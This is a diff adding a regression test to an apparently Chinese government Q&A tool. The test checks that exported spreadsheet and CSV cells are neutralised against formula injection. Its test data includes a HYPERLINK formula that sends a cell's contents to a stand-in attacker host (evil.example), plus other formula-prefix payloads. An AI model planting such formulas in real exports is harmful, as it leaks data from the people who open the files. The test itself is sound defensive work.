@@ -242,6 +242,35 @@ def test_a_huge_chat_question_is_refused_and_not_echoed(make):
     assert status == 200 and len(stream) < 5_000 and "问题太长" in stream
 
 
+# ---- 5. formula injection in the demand export -------------------------------------------------
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
+
+
+def test_exported_cells_never_start_a_formula(tmp_path):
+    messages = tmp_path / "messages.jsonl"
+    rows = [{"subject": f"{FORMULA}幸福小区噪音扰民{n}", "body": "+1 夜间施工噪音", "time": f"2026-11-0{n + 1} 10:00",
+             "likes": 1} for n in range(4)]
+    rows += [{"subject": f"@SUM(1+1)幸福小区噪音扰民{n}", "body": "-2", "time": f"2026-11-0{n + 1} 11:00"} for n in range(2)]
+    rows += [{"subject": f"\t-1+1 幸福小区噪音扰民{n}", "body": "\r=1+1", "time": f"2026-11-0{n + 1} 12:00"} for n in range(2)]
+    messages.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8")
+    env = {"GOVQA_DATA_DIR": str(tmp_path / "data")}
+    mined = govqa("demand", "topics", "--input", str(messages), "--lexical", "--json", env=env)
+    assert mined.returncode == 0, mined.stderr
+    assert any("HYPERLINK" in e for t in json.loads(mined.stdout)["topics"] for e in t["examples"])
+    for name in ("topics.xlsx", "topics.csv"):
+        assert govqa("demand", "export", "--out", str(tmp_path / name), env=env).returncode == 0
+    book = load_workbook(tmp_path / "topics.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
+    assert any("HYPERLINK" in t for t in texts)                            # the text is kept, as text
+    with open(tmp_path / "topics.csv", encoding="utf-8-sig", newline="") as fh:
+        fields = [f for row in csv.reader(fh) for f in row]
+    assert any("HYPERLINK" in f for f in fields)
+    for text in [*texts, *fields]:
+        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
+
+
 # ---- 7. CSRF from the same site; 8. any website can test staff passwords ------------------------------
 def test_state_changing_staff_requests_from_another_origin_are_refused(make, monkeypatch):
     app = make()
